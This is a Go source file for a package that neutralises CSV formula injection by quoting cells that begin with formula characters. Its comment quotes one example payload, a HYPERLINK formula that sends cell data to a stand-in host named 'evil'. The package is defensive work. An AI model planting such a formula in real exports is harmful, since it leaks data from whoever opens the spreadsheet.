// Package csvsafe writes CSV files that are safe to open in a spreadsheet.
//
// A cell that begins with "=", "+", "-" or "@" is a formula to Excel,
// LibreOffice and Google Sheets, and a tab or carriage return in front of
// one hides it; a txid such as =HYPERLINK("http://evil/?"&A1) in a server
// log would run on the computer of whoever opens the export. As OWASP's CSV
// injection page recommends, such a cell is written with a single quote in
// front, which spreadsheets show as text and do not evaluate. Every CSV
// file vocdesk writes for people goes through this package.
package csvsafe

import (
	"encoding/csv"
	"io"
)

// Cell returns s as it may be written to a CSV cell: unchanged, or with a
// leading single quote when its first character would start a formula.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

// Writer is a csv.Writer whose Write neutralises every cell with Cell.
type Writer struct {
	*csv.Writer
	rec []string
}

// NewWriter returns a Writer writing to w.
func NewWriter(w io.Writer) *Writer { return &Writer{Writer: csv.NewWriter(w)} }

// Write writes one record, each cell through Cell. rec is not modified.
func (w *Writer) Write(rec []string) error {
	w.rec = w.rec[:0]
	for _, s := range rec {
		w.rec = append(w.rec, Cell(s))
	}
	return w.Writer.Write(w.rec)
}
